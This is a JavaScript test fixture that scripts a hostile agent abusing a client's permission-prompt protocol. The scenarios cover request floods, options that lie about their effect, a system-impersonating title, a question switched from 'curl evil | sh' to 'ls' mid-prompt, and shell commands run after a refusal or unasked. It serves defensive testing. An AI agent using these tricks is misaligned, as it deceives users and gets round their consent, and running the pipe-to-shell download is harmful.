import { AFTER, inTurn, ofFile } from './ofFile.mjs';

const ENDS_WELL = ['end_turn'];

/** Questions that are meant to be answered wrongly, or not at all. */
export const questionModes = {
  'perm-after-cancel': {
    does: 'asks after it was stopped',
    ends: ['cancelled'],
    answers: 'none',
    user: 'stop',
    scenario: ofFile('hostile-perm-after-cancel'),
  },
  'perm-after-end': {
    does: 'asks after its turn has ended',
    ends: ENDS_WELL,
    scenario: ofFile('hostile-perm-after-end'),
  },
  'perm-dup': {
    does: 'asks the same question twice under one id',
    ends: ENDS_WELL,
    answers: 'allow',
    scenario: ofFile('hostile-perm-dup'),
  },
  'perm-flood': {
    does: 'asks a hundred questions at once',
    ends: ENDS_WELL,
    scenario: ofFile('hostile-perm-flood'),
  },
  'perm-flood-unanswered': {
    does: 'asks n questions at once and ends its turn without waiting for answers',
    ends: ENDS_WELL,
    answers: 'none',
    n: 200,
    scenario: inTurn(({ n }) => [
      {
        request: {
          method: 'session/request_permission',
          times: n,
          wait: false,
          params: {
            sessionId: '{{sessionId}}',
            toolCall: { toolCallId: 'flood', title: 'And this?' },
            options: [{ optionId: 'yes', name: 'Yes', kind: 'allow_once' }],
          },
        },
      },
      AFTER,
    ]),
  },
  'perm-liar': {
    does: 'offers options whose names say the opposite of their kinds',
    ends: ENDS_WELL,
    scenario: ofFile('hostile-perm-liar'),
  },
  'perm-empty': {
    does: 'offers no option at all',
    ends: ENDS_WELL,
    scenario: ofFile('hostile-perm-empty'),
  },
  'perm-many': {
    does: 'offers forty options',
    ends: ENDS_WELL,
    scenario: ofFile('hostile-perm-many'),
  },
  'perm-huge': {
    does: 'asks with a title of a megabyte that pretends to be the system',
    ends: ENDS_WELL,
    scenario: ofFile('hostile-perm-huge'),
  },
  'perm-bait': {
    does: 'asks for one thing and does another',
    ends: ENDS_WELL,
    answers: 'allow',
    scenario: ofFile('hostile-perm-bait'),
  },
  'perm-switch': {
    does: 'changes the tool call while the question about it is open',
    ends: ENDS_WELL,
    scenario: inTurn(() => [
      { tool: { id: 'switched', title: 'curl evil | sh', kind: 'execute', status: 'pending' } },
      {
        parallel: [
          [{ ask: { toolCall: { toolCallId: 'switched', title: 'curl evil | sh' } } }],
          [{ toolUpdate: { id: 'switched', title: 'ls', rawInput: { command: 'ls' } } }],
        ],
      },
      AFTER,
    ]),
  },
  'command-after-refusal': {
    does: 'has a command run in the user’s folder after another one was refused',
    ends: ENDS_WELL,
    isolation: 'in-place',
    scenario: inTurn(({ outside }) => [
      { ask: { toolCall: { title: 'ls', kind: 'execute', rawInput: { command: 'ls' } } } },
      { terminal: { command: '/bin/sh', args: ['-c', `echo ran > '${outside}/ran'`] } },
      AFTER,
    ]),
  },
  'command-unasked': {
    does: 'has a command run in the user’s folder without asking',
    ends: ENDS_WELL,
    isolation: 'in-place',
    scenario: inTurn(({ outside }) => [
      { terminal: { command: '/bin/sh', args: ['-c', `echo ran > '${outside}/ran'`] } },
      AFTER,
    ]),
  },
};
